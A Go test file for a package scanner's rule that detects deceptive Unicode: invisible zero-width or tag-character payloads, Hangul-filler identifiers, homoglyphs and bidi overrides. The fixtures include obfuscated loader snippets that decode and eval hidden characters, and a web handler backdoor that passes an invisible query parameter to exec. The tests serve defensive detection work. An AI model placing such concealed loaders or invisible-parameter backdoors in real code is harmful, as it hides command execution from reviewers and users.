package unicode

import (
	"strings"
	"testing"

	"github.com/depfence/depfence/internal/analyze"
	"github.com/depfence/depfence/internal/finding"
	rt "github.com/depfence/depfence/internal/rules/rulestest"
)

func TestDeceptive(t *testing.T) {
	rt.Check(t, Deceptive{}, []rt.Case{
		// bits of a payload in a README's license line, read and run
		{"doc_zero_width_run", map[string]string{"README.md": "# t\n\nMIT" + strings.Repeat("\u200b\u200c\u200c\u200b", 40) + "\n",
			"index.js": "const fs = require('fs'); const t = fs.readFileSync(__dirname + '/README.md', 'utf8'); Reflect.construct(Function, ['require', decode(t)])(require)"}, finding.SeverityCritical},
		{"doc_zero_width_unread", map[string]string{"notes.txt": strings.Repeat("\u2060", 70), "index.js": "module.exports = 1"}, finding.SeverityHigh},
		// in a JSON schema's descriptions, split over several values
		{"json_description_runs", map[string]string{"schema.json": `{"a":{"description":"An email` + strings.Repeat("\u200b\u200c", 20) + `"},"b":{"description":"A date` + strings.Repeat("\u200c\u200b", 20) + `"}}`,
			"index.js": "const s = require('./schema.json'); new Function(bits(s))()"}, finding.SeverityCritical},
		// Persian text: a non-joiner between letters, never in a run
		{"persian_text", map[string]string{"README.fa.md": strings.Repeat("می\u200cخواهم ", 100)}, finding.SeverityNone},
		// emoji: joiners and the emoji selector are text
		{"doc_emoji", map[string]string{"README.md": strings.Repeat("\U0001F468\u200d\U0001F469\u200d\U0001F467 \u2764\ufe0f \u2714\ufe0e ", 60), "index.js": "eval(x)"}, finding.SeverityNone},
		{"invisible_payload", map[string]string{"index.js": "var s = `" + strings.Repeat("\U000E0101\U000E0102", 20) + "`;"}, finding.SeverityHigh},
		// decoded and run: the GlassWorm loader
		{"invisible_payload_eval", map[string]string{"index.js": "const d = v => [...v].map(c => c.codePointAt(0) - 0xE0100);\neval(Buffer.from(d(`" + strings.Repeat("\U000E0101\U000E0102", 20) + "`)).toString());"}, finding.SeverityCritical},
		{"hangul_filler_ident", map[string]string{"index.js": "const \u3164 = 1;"}, finding.SeverityHigh},
		// the invisible parameter joining the commands a handler runs,
		// exec reached through promisify
		{"hangul_filler_exec", map[string]string{"index.js": "const run = require(\"util\").promisify(require(\"child_process\").exec);\n" +
			"app.get(\"/h\", (req, res) => { const { t, \u3164 } = req.query; [\"uptime\", \u3164].map((c) => c && run(c)); res.end() })"}, finding.SeverityCritical},
		// a variation selector in a name is not that (emoji in names)
		{"selector_ident_exec", map[string]string{"index.js": "const a\ufe0f = 1; require(\"child_process\").execSync(\"uptime\")"}, finding.SeverityHigh},
		// HTML entity tables inlined by bundlers hold fillers as text
		{"hangul_filler_in_string", map[string]string{"index.js": "const table = \"amp;\u1160gt;\";"}, finding.SeverityNone},
		// the same in a file too deeply nested to parse, which is lexed:
		// a name with a filler is still found, a string's is text
		{"hangul_filler_lexed_string", map[string]string{"index.js": strings.Repeat("[", 500) + strings.Repeat("]", 500) + "; const table = \"amp;\u1160gt;\";"}, finding.SeverityNone},
		{"hangul_filler_lexed_ident", map[string]string{"index.js": strings.Repeat("[", 500) + strings.Repeat("]", 500) + "; const \u3164 = 1; exec(\u3164)"}, finding.SeverityHigh},
		{"homoglyph", map[string]string{"index.js": "const p\u0430ssword = 1; use(p\u0430ssword);"}, finding.SeverityHigh},
		// a quantity in a colour formula; a Greek look-alike in a longer name is not
		{"greek_math_symbol", map[string]string{"index.js": "const \u03b5S = 216 / 24389; export const k = \u03b5S * 2;"}, finding.SeverityLow},
		{"greek_lookalike_name", map[string]string{"index.js": "const t\u03bfken = process.env.TOKEN; send(t\u03bfken);"}, finding.SeverityHigh},
		// a Greek omicron reads as o; θ and Δ name quantities in math code
		{"greek_lookalike", map[string]string{"index.js": "const t\u03bfken = 1; use(t\u03bfken);"}, finding.SeverityHigh},
		{"greek_math_names", map[string]string{"index.js": "const cos\u03b8 = Math.cos(h), \u0394E = e1 - e2, \u03c3xy = cov(x, y); use(cos\u03b8, \u0394E, \u03c3xy);"}, finding.SeverityNone},
		{"bidi", map[string]string{"index.js": "if (a != \"user\u202E \u2066// admin\u2069\") {}"}, finding.SeverityMedium},
		{"emoji", map[string]string{"index.js": "const e = \"\U0001F469\u200D\U0001F4BB\u2764\uFE0F\";"}, finding.SeverityNone},
		// England's flag: the black flag, tags g b e n g, cancel tag
		{"emoji_flag", map[string]string{"index.js": "const f = \"\U0001F3F4\U000E0067\U000E0062\U000E0065\U000E006E\U000E0067\U000E007F\";"}, finding.SeverityNone},
		// the same tags without the flag are reported
		{"tags_without_flag", map[string]string{"index.js": "const f = \"x\U000E0067\U000E0062\U000E007F\";"}, finding.SeverityLow},
		// entity tables and regular expression classes hold controls as data
		{"entity_table", map[string]string{"index.js": "module.exports = {\"&ic;\":\"\u2063\",\"&it;\":\"\u2062\",\"&rlm;\":\"\u200F\"};"}, finding.SeverityLow},
		{"bidi_table", map[string]string{"index.js": "const t = [[\"\u202B\",\"#x202B\"],[\"\u202E\",\"#x202E\"]];"}, finding.SeverityLow},
		{"bidi_regexp_class", map[string]string{"index.js": "const re = /[\u202A\u202B\u202C\u202D\u202E\u2066]/g;"}, finding.SeverityLow},
		// an override before code, even right before a brace, is not data
		{"bidi_before_brace", map[string]string{"index.js": "/*\u202E} \u2066if (isAdmin)\u2069 \u2066 begin admins only */ run();"}, finding.SeverityMedium},
		// short invisible runs in the text of a parsed file; names are
		// checked one by one
		{"zwsp_run_in_text", map[string]string{"index.js": "const label = \"Parallel\u200B\u200B\u200B\u200B Parallel\";"}, finding.SeverityLow},
		{"zwsp_run_unparsed", map[string]string{"index.js": "const label = \"Parallel\u200B\u200B\u200B\u200B Parallel\";\nvar = ;"}, finding.SeverityMedium},
		{"joiner_in_name", map[string]string{"index.js": "const isAdmin\u200D = false; const isAdmin = true; if (isAdmin\u200D) run();"}, finding.SeverityHigh},
		{"selector_in_name", map[string]string{"index.js": "let key\uFE01 = 1; use(key\uFE01);"}, finding.SeverityHigh},
		// characters held as data early in a file do not hide a name later
		{"name_after_data", map[string]string{"index.js": "const t = [\"\u2063\", \"\u2062\", \"\u2064\", \"\u2063\"];\nconst ok\u200C = 1; use(ok\u200C);"}, finding.SeverityHigh},
	})
}

// A document's hidden payload that a module of the package runs is
// reported where it runs, so that it weighs as that module's code (here
// the entry point's), not as a document's.
func TestHiddenDocRunWhereItRuns(t *testing.T) {
	res := rt.Run(t, map[string]string{
		"package.json":  rt.Pkg(`"main":"index.js"`),
		"docs/USAGE.md": "# usage\n\nmd-toc FILE" + strings.Repeat("\ufe01\ufe02\ufe03\ufe04", 40) + "\n",
		"lib/help.js":   "const fs = require('fs'); const raw = fs.readFileSync(__dirname + '/../docs/USAGE.md', 'utf8');\nconst m = new (require('module'))('USAGE.md'); m._compile(bits(raw), 'USAGE.md');\nmodule.exports = raw",
		"index.js":      "module.exports = { help: require('./lib/help') }",
	}, Deceptive{})
	if len(res.Findings) != 1 {
		t.Fatalf("findings = %+v", res.Findings)
	}
	if got := res.Findings[0].Location; got.File != "lib/help.js" || got.Line != 2 {
		t.Errorf("location = %+v, want lib/help.js:2", got)
	}
	if res.Verdict != analyze.VerdictMalicious {
		t.Errorf("verdict = %s, want malicious", res.Verdict)
	}
}
